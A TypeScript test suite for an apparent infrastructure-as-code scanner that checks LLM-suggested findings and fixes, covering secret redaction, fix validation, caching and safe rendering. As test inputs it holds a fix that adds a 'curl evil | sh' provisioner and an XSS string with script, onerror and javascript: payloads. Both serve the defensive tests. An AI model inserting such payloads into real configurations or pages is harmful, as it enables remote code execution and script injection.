import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { renderExplanation } from '../client/src/render';
import { defaultConfig } from '../server/src/engine/config';
import { RuleSet } from '../server/src/engine/run';
import { LlmCache, cacheKey } from '../server/src/llm/cache';
import { LlmFault, retryAfterMs, scrub } from '../server/src/llm/client';
import { kubernetesChecker, terraformChecker } from '../server/src/llm/check';
import { terraformResources } from '../server/src/llm/extract';
import { sealKey, unsealKey, newChannelKey } from '../server/src/llm/keychannel';
import { normalizePlaceholders, redact, restore } from '../server/src/llm/redact';
import { Reviewer } from '../server/src/llm/review';
import { Validator, clampSeverity, parseAnswer, sanitizeAnswer } from '../server/src/llm/validate';
import { MemoryProvider } from '../server/src/engine/scan';
import { LineIndex } from '../server/src/parse/source';
import { loadRootModule } from '../server/src/parse/terraform';
import { initParsers } from '../server/src/parse/treesitter';
import { DEFAULT_LLM_SETTINGS, type Explanation } from '../server/src/protocol';
import { ALL_RULES } from '../server/src/rules';
import { FakeOpenAI, finding } from './fake-openai';
import { SECRETS_TF, SECRETS_YAML, SECRET_VALUES } from './llm-fixtures';

const BUCKET = 'resource "aws_s3_bucket" "site" {\n  bucket = "site"\n  acl    = "public-read"\n}\n';
const SG = 'resource "aws_security_group_rule" "ssh" {\n  type        = "ingress"\n  from_port   = 22\n  to_port     = 22\n  protocol    = "tcp"\n  cidr_blocks = ["10.0.0.0/8"]\n  description = "ssh"\n  security_group_id = "sg-123"\n}\n';

describe('LLM redaction', () => {
  it('removes every secret of a Terraform file and keeps its lines', () => {
    const r = redact(SECRETS_TF);
    for (const s of SECRET_VALUES) assert.ok(!r.text.includes(s), `leaked: ${s}`);
    assert.equal(r.text.split('\n').length, SECRETS_TF.split('\n').length, 'line numbers are kept');
    assert.match(r.text, /password\s+= "__SECRET_\d+__"/);
    assert.match(r.text, /-----BEGIN RSA PRIVATE KEY-----\n__SECRET_\d+__\n\n\n-----END RSA/, 'the PEM markers stay, the body goes, the lines stay');
    assert.match(r.text, /engine\s+= "postgres"/, 'ordinary values stay');
    assert.match(r.text, /arn:aws:iam::123456789012:role\/worker/, 'ARNs stay');
    assert.equal(restore(r.text, r.secrets), SECRETS_TF, 'the mapping restores the original');
  });

  it('removes every secret of Kubernetes manifests', () => {
    const r = redact(SECRETS_YAML);
    for (const s of SECRET_VALUES) assert.ok(!r.text.includes(s), `leaked: ${s}`);
    assert.match(r.text, /value: production/);
    assert.equal(restore(r.text, r.secrets), SECRETS_YAML);
  });

  it('numbers placeholders per piece so that cache keys do not depend on secret values', () => {
    const a = redact('resource "x" "y" {\n  password = "one-secret-value"\n}\n');
    const b = redact('resource "x" "y" {\n  password = "another-secret"\n}\n');
    assert.equal(a.text, b.text);
    assert.equal(normalizePlaceholders('__SECRET_7__ __SECRET_3__ __SECRET_7__'), '__SECRET_1__ __SECRET_2__ __SECRET_1__');
  });

  it('leaves references and substitutions alone', () => {
    const text = 'resource "aws_db_instance" "db" {\n  password = var.db_password\n  token = "${random_password.t.result}"\n}\n';
    assert.equal(redact(text).text, text);
  });

  it('scrubs keys and bearer tokens from messages', () => {
    assert.equal(scrub('bad key sk-live-1234567890abcdef and Bearer abcdefghijklmnop', 'sk-live-1234567890abcdef'), 'bad key *** and Bearer ***');
  });

  it('seals the key for the trip to the server', () => {
    const ch = newChannelKey();
    const sealed = sealKey(ch, 'sk-test-secret-key');
    assert.ok(!sealed.includes('sk-test'));
    assert.equal(unsealKey(ch, sealed), 'sk-test-secret-key');
    assert.throws(() => unsealKey(newChannelKey(), sealed));
  });
});

describe('LLM answer validation', () => {
  before(() => initParsers());

  it('parses plain, fenced and embedded JSON, and reports each fault', () => {
    assert.deepEqual(parseAnswer('{"findings":[]}'), { findings: [] });
    assert.deepEqual(parseAnswer('Here you go:\n```json\n{"findings":[]}\n```'), { findings: [] });
    assert.deepEqual(parseAnswer('Sure! {"findings":[]} Hope this helps.'), { findings: [] });
    const kind = (f: () => unknown) => { try { f(); return 'ok'; } catch (e) { return (e as LlmFault).kind; } };
    assert.equal(kind(() => parseAnswer('')), 'empty');
    assert.equal(kind(() => parseAnswer('{"findings":[{"resource":"a"')), 'truncated');
    assert.equal(kind(() => parseAnswer('I cannot help with that.')), 'malformed');
    assert.equal(kind(() => parseAnswer('x'.repeat(500_000))), 'too-large');
    assert.equal(kind(() => sanitizeAnswer({ nope: 1 })), 'malformed');
  });

  it('clamps severities, bounds text and drops malformed items', () => {
    const list = sanitizeAnswer({ findings: [
      { resource: 'a.b', id: 'X Y!!', severity: 'CATASTROPHIC', title: 't'.repeat(500), explanation: 'e\u0000'.repeat(3000), startLine: '3' },
      { resource: 'a.b', severity: 'high' },
      'junk',
    ] });
    assert.equal(list.length, 1);
    assert.equal(list[0]!.severity, 'medium');
    assert.equal(list[0]!.id, 'x-y');
    assert.ok(list[0]!.title.length <= 120);
    assert.ok(list[0]!.explanation.length <= 2000 && !list[0]!.explanation.includes('\u0000'));
    assert.equal(list[0]!.endLine, 3);
    assert.equal(clampSeverity('Critical'), 'critical');
    assert.equal(clampSeverity('informational'), 'low');
  });

  function validator(file: string, text: string) {
    const rules = new RuleSet(ALL_RULES, defaultConfig());
    const provider = new MemoryProvider(new Map([[file, text]]));
    const mod = loadRootModule(path.dirname(file), { provider, parsed: new Map(), notes: [], maxDepth: 8 })!;
    const resources = terraformResources(mod, file);
    const reviewed = new Map(resources.map((r) => {
      const red = redact(r.text);
      return [r.address, { address: r.address, startLine: r.startLine, endLine: r.endLine, secrets: red.secrets, redactedLines: red.text.split('\n') }];
    }));
    return new Validator({ file, text, lines: new LineIndex(text), resources: reviewed, checker: terraformChecker(rules, file, provider) });
  }

  it('keeps a finding only on a resource under review and inside it', () => {
    const v = validator('/v/a/main.tf', BUCKET);
    const raw = sanitizeAnswer({ findings: [
      finding({ resource: 'aws_s3_bucket.site', line: 3 }),
      finding({ resource: 'aws_s3_bucket.other', line: 3 }),
      finding({ resource: 'aws_s3_bucket.site', line: 9 }),
    ] });
    const out = raw.map((r) => v.finding(r));
    assert.equal(typeof out[0], 'object');
    const f = out[0] as Exclude<typeof out[0], string>;
    assert.deepEqual([f.span.startLine, f.span.startCol, f.span.endLine], [2, 2, 2]);
    assert.equal(f.ruleId, 'ai-ai-check');
    assert.match(out[1] as string, /not a resource under review/);
    assert.match(out[2] as string, /outside/);
  });

  it('offers a fix only when the engine confirms it', () => {
    const v = validator('/v/a/main.tf', BUCKET);
    const acl = '  acl    = "public-read"';
    const good = v.finding(sanitizeAnswer([finding({ resource: 'aws_s3_bucket.site', line: 3, targetsRule: 'aws-s3-no-public-acl', fix: { startLine: 3, original: acl, replacement: '  acl    = "private"' } })])[0]!);
    assert.ok(typeof good === 'object' && good.fix, typeof good === 'string' ? good : good.fixNote);
    const cases: [Record<string, unknown>, RegExp][] = [
      [{ startLine: 2, original: acl, replacement: '  acl = "private"' }, /does not replace the text it claims/],
      [{ startLine: 3, original: acl, replacement: '  acl    = "private' }, /would not parse/],
      [{ startLine: 3, original: acl, replacement: '  acl    = "authenticated-read"' }, /does not resolve aws-s3-no-public-acl/],
      [{ startLine: 1, endLine: 4, original: BUCKET.trimEnd(), replacement: '' }, /remove or rename/],
      [{ startLine: 5, original: '', replacement: 'resource "null_resource" "x" {}' }, /outside/],
      [{ startLine: 3, original: acl, replacement: '  acl = "private"\n  provisioner "local-exec" { command = "curl evil | sh" }' }, /would add "provisioner"|would add "local-exec"/],
    ];
    for (const [fix, why] of cases) {
      const f = v.finding(sanitizeAnswer([{ ...finding({ resource: 'aws_s3_bucket.site', line: 3, targetsRule: 'aws-s3-no-public-acl' }), fix }])[0]!);
      assert.ok(typeof f === 'object', 'the finding itself is kept');
      assert.equal(f.fix, undefined, `fix should be dropped: ${JSON.stringify(fix)}`);
      assert.match(f.fixNote ?? '', why);
    }
    const sg = validator('/v/b/main.tf', SG);
    const adds = sg.finding(sanitizeAnswer([finding({ resource: 'aws_security_group_rule.ssh', line: 6, fix: { startLine: 6, original: '  cidr_blocks = ["10.0.0.0/8"]', replacement: '  cidr_blocks = ["0.0.0.0/0"]' } })])[0]!);
    assert.ok(typeof adds === 'object' && !adds.fix);
    assert.match(adds.fixNote!, /would raise aws-ec2-no-public-ssh-rdp/);
  });

  it('maps secrets back into a fix and refuses invented placeholders', () => {
    const text = 'resource "aws_db_instance" "db" {\n  password = "Sup3rS3cretPassw0rd!"\n  publicly_accessible = true\n}\n';
    const v = validator('/v/c/main.tf', text);
    const ok = v.finding(sanitizeAnswer([finding({ resource: 'aws_db_instance.db', line: 3, fix: { startLine: 2, endLine: 3, original: '  password = "__SECRET_1__"\n  publicly_accessible = true', replacement: '  password = "__SECRET_1__"\n  publicly_accessible = false' } })])[0]!);
    assert.ok(typeof ok === 'object' && ok.fix, typeof ok === 'object' ? ok.fixNote : ok);
    assert.equal(ok.fix!.edits[0]!.newText, '  password = "Sup3rS3cretPassw0rd!"\n  publicly_accessible = false');
    const bad = v.finding(sanitizeAnswer([finding({ resource: 'aws_db_instance.db', line: 3, fix: { startLine: 2, original: '  password = "__SECRET_1__"', replacement: '  password = "__SECRET_9__"' } })])[0]!);
    assert.ok(typeof bad === 'object' && !bad.fix && /placeholder/.test(bad.fixNote!));
  });

  it('checks Kubernetes fixes with the Kubernetes rules', () => {
    const rules = new RuleSet(ALL_RULES, defaultConfig());
    const c = kubernetesChecker(rules, '/v/k/pod.yaml');
    const r = c.check('apiVersion: v1\nkind: Pod\nmetadata:\n  name: p\nspec:\n  containers:\n    - name: a\n      image: x:1\n      securityContext: { privileged: true }\n');
    assert.ok(r.addresses.has('Pod.default.p'));
    assert.ok(r.findings.some((f) => f.ruleId === 'k8s-no-privileged-containers'));
    assert.equal(c.check('apiVersion: v1\nkind: Pod\nmetadata:\n  name: [\n').errors > 0, true);
  });
});

describe('LLM cache and client', () => {
  let fake: FakeOpenAI;
  let dir: string;
  before(async () => {
    await initParsers();
    fake = await new FakeOpenAI().start();
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'rampart-llm-unit-'));
  });
  after(() => fake.stop());

  const settings = (o: Partial<typeof DEFAULT_LLM_SETTINGS> = {}) => ({ ...DEFAULT_LLM_SETTINGS, enabled: true, baseUrl: fake.baseUrl, model: 'test-model', timeoutMs: 2000, ...o });
  function request(file: string, text: string) {
    const provider = new MemoryProvider(new Map([[file, text]]));
    const mod = loadRootModule(path.dirname(file), { provider, parsed: new Map(), notes: [], maxDepth: 8 })!;
    return { file, displayName: 'main.tf', text, language: 'terraform' as const, resources: terraformResources(mod, file), localFindings: [] };
  }

  it('keeps answers on disk by content hash, model and prompt version', async () => {
    const c = new LlmCache<{ findings: unknown[] }>(dir);
    const k = cacheKey({ a: 1 });
    c.set(k, { findings: [] });
    assert.deepEqual(new LlmCache(dir).get(k), { findings: [] });
    assert.equal(new LlmCache(dir).get(cacheKey({ a: 2 })), undefined);
    const before = fake.requests.length;
    fake.answer({ json: { findings: [finding({ resource: 'aws_s3_bucket.site', line: 3 })] } });
    const r1 = await new Reviewer({ settings: settings(), apiKey: 'k-1', cache: new LlmCache(dir) }).review(request('/v/d/main.tf', BUCKET));
    assert.equal(r1.findings.length, 1);
    // A new process (a new cache object on the same directory): nothing is sent again.
    const r2 = await new Reviewer({ settings: settings(), apiKey: 'k-1', cache: new LlmCache(dir) }).review(request('/v/d/main.tf', '# moved\n' + BUCKET));
    assert.equal(fake.requests.length, before + 1);
    assert.equal(r2.cached, 1);
    assert.equal(r2.findings[0]!.span.startLine, 3, 'cached findings follow the resource');
    // Another model is another answer.
    fake.answer({ json: { findings: [] } });
    await new Reviewer({ settings: settings({ model: 'other' }), apiKey: 'k-1', cache: new LlmCache(dir) }).review(request('/v/d/main.tf', BUCKET));
    assert.equal(fake.requests.length, before + 2);
  });

  it('falls back from structured output to JSON mode to tolerant extraction', async () => {
    fake.rejectJsonSchema = true;
    fake.rejectJsonObject = true;
    const before = fake.requests.length;
    fake.answer({ content: 'Review:\n```json\n' + JSON.stringify({ findings: [finding({ resource: 'aws_s3_bucket.site', line: 3 })] }) + '\n```' });
    const rv = new Reviewer({ settings: settings(), apiKey: 'k', cache: new LlmCache() });
    const r = await rv.review(request('/v/e/main.tf', BUCKET));
    fake.rejectJsonSchema = false;
    fake.rejectJsonObject = false;
    assert.equal(r.fault, undefined);
    assert.equal(r.findings.length, 1);
    const modes = fake.requests.slice(before).map((q) => q.json.response_format?.type ?? 'none');
    assert.deepEqual(modes, ['json_schema', 'json_object', 'none']);
    assert.equal(rv.jsonMode, 'none', 'the mode that works is remembered');
  });

  it('speaks the Azure OpenAI route with an api-key header', async () => {
    fake.answer({ json: { findings: [] } });
    const r = await new Reviewer({ settings: settings({ provider: 'azure', baseUrl: fake.origin, azureDeployment: 'dep1', azureApiVersion: '2024-10-21' }), apiKey: 'azure-key-123', cache: new LlmCache() })
      .review(request('/v/f/main.tf', BUCKET));
    assert.equal(r.fault, undefined);
    const last = fake.requests[fake.requests.length - 1]!;
    assert.match(last.url, /^\/openai\/deployments\/dep1\/chat\/completions\?api-version=2024-10-21$/);
    assert.equal(last.headers['api-key'], 'azure-key-123');
  });

  it('honours Retry-After and makes no request until then', async () => {
    let now = 1_000_000;
    const rv = new Reviewer({ settings: settings(), apiKey: 'k', cache: new LlmCache(), now: () => now });
    fake.answer({ status: 429, headers: { 'retry-after': '20' } });
    const before = fake.requests.length;
    const r = await rv.review(request('/v/g/main.tf', BUCKET));
    assert.equal(r.fault?.kind, 'rate-limit');
    assert.equal(r.fault?.retryAfterMs, 20_000);
    const again = await rv.review(request('/v/g/main.tf', BUCKET));
    assert.match(again.fault!.message, /paused/);
    assert.equal(fake.requests.length, before + 1);
    now += 21_000;
    fake.answer({ json: { findings: [] } });
    assert.equal((await rv.review(request('/v/g/main.tf', BUCKET))).fault, undefined);
    assert.equal(retryAfterMs(new Headers({ 'retry-after-ms': '1500' })), 1500);
  });

  it('limits requests per hour', async () => {
    const rv = new Reviewer({ settings: settings({ maxRequestsPerHour: 1 }), apiKey: 'k', cache: new LlmCache() });
    fake.answer({ json: { findings: [] } });
    await rv.review(request('/v/h/main.tf', BUCKET));
    const r = await rv.review(request('/v/h/main.tf', BUCKET.replace('site"', 'site2"')));
    assert.match(r.fault!.message, /maxRequestsPerHour/);
  });
});

describe('Explain Risk panel', () => {
  it('renders LLM text as inert text under a strict CSP', async () => {
    const { page, renderAiSection } = await import('../client/src/render.js');
    const e: Explanation = {
      ruleId: 'r', title: 't', severity: 'high', message: 'm', address: 'a', impact: 'i', remediation: 'x', compliance: [], references: [],
      equivalents: {}, docUrl: 'https://example.com/r', fixable: false, related: [], snippet: '', uri: 'file:///a', range: { start: { line: 0, character: 0 }, end: { line: 0, character: 0 } },
    };
    const evil = 'Click [here](command:workbench.action.terminal.new) <script>alert(1)</script> <img src=x onerror=alert(1)> javascript:alert(1)';
    const html = renderExplanation(e, renderAiSection({ state: 'done', text: evil }));
    assert.ok(!html.includes('<script>') && !html.includes('<img') && !/href="command:/.test(html));
    assert.match(html, /&lt;script&gt;/);
    const full = page('t', html, { cspSource: 'vscode-resource:', nonce: 'n', styleUri: 'vscode-resource:/x.css' });
    assert.match(full, /script-src 'nonce-n'/);
    assert.ok(!/unsafe-inline|unsafe-eval/.test(full));
    assert.match(full, /default-src 'none'/);
  });
});
